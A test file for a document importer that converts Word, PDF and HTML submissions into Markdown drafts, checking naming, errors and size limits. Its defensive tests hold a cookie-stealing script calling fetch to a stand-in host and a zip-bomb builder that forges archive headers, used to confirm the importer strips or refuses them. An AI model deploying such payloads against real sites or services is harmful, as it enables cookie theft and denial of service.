import { spawnSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { runChecks } from '../../src/checks/run-checks.ts';
import { openContent } from '../../scripts/content/open-content.ts';
import { unzip, zip } from '../../scripts/import/docx/zip.ts';
import { projectDir } from '../../scripts/content/settings.ts';
import { importFile } from '../../scripts/import/import-file.ts';
import { readSource } from '../../scripts/import/read-source.ts';
import { writeDraft } from '../../scripts/import/write-drafts.ts';
import type { DraftContext } from '../../src/intake/compose-drafts.ts';
import { createLibrary } from '../../src/library/library.ts';
import { fixtureContent, showOutcome } from './import-cases.ts';
import { makePolicyDocx, makeStoryDocx } from './make-docx.ts';
import { makePdf } from './make-pdf.ts';

/** Each command is a process of its own. */
vi.setConfig({ testTimeout: 60_000 });

let folder = '';
let content = '';

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'import-'));
  content = join(folder, 'content');
  cpSync(fixtureContent, content, { recursive: true });
});

afterEach(() => {
  rmSync(folder, { recursive: true, force: true });
});

function run(
  script: string,
  args: readonly string[],
  input = '',
): { code: number | null; out: string; progress: string } {
  const { status, stdout, stderr } = spawnSync(
    process.execPath,
    [join(projectDir, 'scripts', script), ...args],
    {
      env: { ...process.env, CONTENT_DIR: content },
      cwd: folder,
      input,
      encoding: 'utf8',
    },
  );
  return { code: status, out: stdout, progress: stderr };
}

function put(name: string, bytes: Uint8Array | string): string {
  const path = join(folder, name);
  writeFileSync(path, bytes);
  return path;
}

const story = '夜校的灯\n\n江口县的夜校每晚七点亮灯，来的人自己带凳子，没有人缺课。\n';

function makeContext(): DraftContext {
  return { collection: 'stories', library: createLibrary([]), taken: new Set(), today: '2026-11-21' };
}

/** The reason why a file is not read; the text of its draft where it is. */
async function readOne(path: string): Promise<string> {
  return showOutcome(await importFile(basename(path), () => readSource(path), makeContext()));
}

describe('a draft', () => {
  test.each([
    ['stories', makeStoryDocx],
    ['policies', makePolicyDocx],
  ] as const)(
    'from Word in %s passes the check but for the fields left to the editor',
    async (collection, make) => {
      const path = put('稿子.docx', await make());
      const { code, out } = run('import.ts', [path, '--to', collection, '--write']);
      expect(code).toBe(0);
      const [file = ''] = readdirSync(join(content, collection));
      const left = [...readFileSync(join(content, collection, file), 'utf8').matchAll(/^# 待填 (\w+)/gm)].map(
        (match) => match[1],
      );
      expect(left).toContain('sources');
      const { findings } = runChecks((await openContent(content)).files);
      const errors = findings.filter(
        (each) => each.level === 'error' && each.file === `${collection}/${file}`,
      );
      expect(errors.map((error) => error.code).filter((each) => each !== 'field-missing')).toEqual([]);
      expect(errors).toHaveLength(left.length);
      for (const error of errors)
        expect(left.some((key) => error.message.includes(`（${key ?? ''}）`))).toBe(true);
      expect(out).toContain('npm run check');
    },
  );

  test('is only shown without --write', () => {
    const { code, out } = run('import.ts', [put('a.txt', story), '--to', 'stories']);
    expect(code).toBe(0);
    expect(out).toContain('title: 夜校的灯');
    expect(existsSync(join(content, 'stories'))).toBe(false);
  });

  test('never overwrites one that is there', () => {
    const path = put('a.txt', story);
    for (let round = 0; round < 2; round++) run('import.ts', [path, '--to', 'stories', '--write']);
    expect(readdirSync(join(content, 'stories')).sort()).toEqual([
      'yexiao-de-deng-2.md',
      'yexiao-de-deng.md',
    ]);
  });

  test('is not written over a file that came up in the meantime', async () => {
    const outcome = await importFile('a.txt', () => readSource(put('a.txt', story)), makeContext());
    const [ready] = 'drafts' in outcome ? outcome.drafts : [];
    if (!ready) throw new Error('no draft');
    const path = await writeDraft(content, ready);
    writeFileSync(path, '别人的');
    await expect(writeDraft(content, ready)).rejects.toThrow('EEXIST');
    expect(readFileSync(path, 'utf8')).toBe('别人的');
  });

  test('brings its pictures', async () => {
    run('import.ts', [put('a.docx', await makeStoryDocx()), '--to', 'stories', '--write']);
    const name = 'lao-hangong-de-yiba-tong-chi-1.png';
    expect(
      readFileSync(join(content, 'images', name))
        .subarray(1, 4)
        .toString(),
    ).toBe('PNG');
    expect(readFileSync(join(content, 'stories/lao-hangong-de-yiba-tong-chi.md'), 'utf8')).toContain(
      `(/images/${name})`,
    );
  });

  test('may come from standard input', () => {
    const { code, out } = run('import.ts', ['-', '--to', 'stories'], story);
    expect(code).toBe(0);
    expect(out).toContain('title: 夜校的灯');
  });
});

describe('several files', () => {
  test('and folders are read in one run with one report, and a bad one does not stop the rest', () => {
    mkdirSync(join(folder, '来稿'));
    put('来稿/一.txt', story);
    put('来稿/二.docx', 'not a zip');
    put('来稿/三.md', '# 门板\n\n黑板是**门板**刷的，粉笔由学校送，讲课的是退休的老师傅。\n');
    put('来稿/照片.jpg', 'x');
    const { code, out, progress } = run('import.ts', [
      join(folder, '来稿'),
      join(folder, '没有.txt'),
      '--to',
      'stories',
      '--write',
    ]);
    expect(code).toBe(1);
    expect(progress).toContain('[1/4] 一.txt');
    expect(out).toContain('✗ 二.docx');
    expect(out).toContain('找不到这个文件');
    expect(out).toContain('共 4 个文件：2 个读好，得到 2 份草稿；2 个没有导入。');
    expect(readdirSync(join(content, 'stories')).sort()).toEqual(['men-ban.md', 'yexiao-de-deng.md']);
  });

  test('of one title get ids of their own', () => {
    const { out } = run('import.ts', [put('a.txt', story), put('b.txt', story), '--to', 'stories']);
    expect(out).toContain('yexiao-de-deng-2.md');
  });
});

describe('bad input is refused with its reason:', () => {
  const oleMark = Buffer.from('d0cf11e0a1b11ae1', 'hex');

  test('an old .doc and a .wps', async () => {
    expect(await readOne(put('a.doc', 'x'))).toContain('另存为 .docx');
    expect(await readOne(put('a.wps', 'x'))).toContain('另存为 .docx');
    expect(await readOne(put('a.docx', Buffer.concat([oleMark, Buffer.alloc(600)])))).toContain('旧版 .doc');
  });

  test('a docx with a password', async () => {
    const locked = Buffer.concat([oleMark, Buffer.alloc(600), Buffer.from('EncryptedPackage', 'utf16le')]);
    expect(await readOne(put('a.docx', locked))).toContain('加了密码');
  });

  test('a damaged docx, cut off or with broken XML', async () => {
    const whole = await makeStoryDocx();
    expect(await readOne(put('a.docx', whole.subarray(0, whole.length / 2)))).toContain('损坏');
    const parts = new Map([
      ...unzip(whole),
      ['word/document.xml', Buffer.from('<w:document><w:bo')] as const,
    ]);
    expect(await readOne(put('b.docx', zip(parts)))).toContain('文档损坏，找不到正文');
  });

  test('a zip bomb, whatever it says of its own size', async () => {
    const name = 'word/document.xml';
    const parts = unzip(await makeStoryDocx());
    // Last of all, so that nothing but its own unpacking can stop it.
    parts.delete(name);
    parts.set(name, Buffer.from('x'));
    const packed = deflateRawSync(Buffer.alloc(300 * 1024 * 1024));
    expect(await readOne(put('a.docx', replacePacked(zip(parts), name, packed)))).toContain(
      '解压后超过 200 MB',
    );
  });

  test('a scanned PDF, a damaged one', async () => {
    expect(await readOne(put('a.pdf', makePdf([[], []])))).toContain('扫描件');
    expect(await readOne(put('b.pdf', '%PDF-1.4 nothing'))).toContain('损坏');
  });

  test('a file of 50 MB', async () => {
    const path = put('a.docx', 'PK');
    truncateSync(path, 50 * 1024 * 1024);
    expect(await readOne(path)).toContain('一次最多读 50.0 MB');
  });

  test('an empty file and a picture with the ending of a text', async () => {
    expect(await readOne(put('a.txt', ''))).toContain('空的');
    expect(await readOne(put('b.txt', Buffer.from([0x89, 0x50, 0, 0xff, 0xfe, 0xff])))).toContain(
      '看不出文字的编码',
    );
  });
});

test('a page with scripts gives its words and nothing of the scripts', async () => {
  const page = `<script>fetch('http://x/' + document.cookie)</script><p onclick="x()">夜校的灯亮着，来的人自己带凳子。</p><iframe src="http://x"></iframe><a href="javascript:x()">坐下</a>`;
  const out = await readOne(put('a.html', page));
  expect(out).toContain('夜校的灯亮着');
  expect(out).not.toMatch(/fetch|onclick|javascript|iframe/);
});

test('a link to a numbered chapter is no footnote, a mark and its note are one', async () => {
  const page = `<p>目录 <a href="#b">2</a></p><p>夜校的灯亮着<a href="#n">①</a>，来的人自己带凳子。</p><div id="b"><p>2 后来夜校搬进了学校。</p></div><p id="n">① 灯是旧的。</p>`;
  const out = await readOne(put('a.html', page));
  expect(out).toContain('夜校的灯亮着[^1]，来的人');
  expect(out).toContain('[^1]: 灯是旧的。');
  expect(out).not.toContain('[^2]');
});

test('two hundred pages are read', async () => {
  const line = (page: number) => `第${page}天，江口县的夜校照常亮灯，来的人照旧自己带凳子。`;
  const pages = Array.from({ length: 200 }, (_, page) => [
    { text: line(page + 1), x: 60, y: 700 },
    { text: String(page + 1), x: 290, y: 30 },
  ]);
  const out = await readOne(put('a.pdf', makePdf(pages)));
  expect(out).toContain('一个不少');
  expect(out).toContain('第200天');
});

test('misuse is explained', () => {
  expect(run('import.ts', ['a.txt']).code).toBe(2);
  expect(run('import.ts', ['a.txt', '--to', 'story']).out).toContain('没有“story”这个栏目');
  expect(run('import.ts', ['--nonsense']).code).toBe(2);
  expect(run('import.ts', ['--help']).out).toContain('npm run import -- 老焊工.docx --to stories');
});

/** A zip in which one part is packed and its headers still tell the size of the stored one. */
function replacePacked(archive: Buffer, name: string, packed: Buffer): Buffer {
  const at = archive.indexOf(Buffer.concat([Buffer.from(name), Buffer.from('x')]));
  const local = at - 30;
  const head = Buffer.from(archive.subarray(0, at + name.length));
  head.writeUInt16LE(8, local + 8);
  const grown = packed.length - 1;
  const tail = Buffer.from(archive.subarray(at + name.length + 1));
  const end = tail.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
  for (let row = tail.readUInt32LE(end + 16) - at - name.length - 1; row < end;) {
    const [nameLength, extra, note] = [28, 30, 32].map((field) => tail.readUInt16LE(row + field));
    const rowName = tail.toString('utf8', row + 46, row + 46 + (nameLength ?? 0));
    if (rowName === name) {
      tail.writeUInt16LE(8, row + 10);
      tail.writeUInt32LE(packed.length, row + 20);
    } else if (tail.readUInt32LE(row + 42) > local)
      tail.writeUInt32LE(tail.readUInt32LE(row + 42) + grown, row + 42);
    row += 46 + (nameLength ?? 0) + (extra ?? 0) + (note ?? 0);
  }
  tail.writeUInt32LE(tail.readUInt32LE(end + 16) + grown, end + 16);
  return Buffer.concat([head, packed, tail]);
}
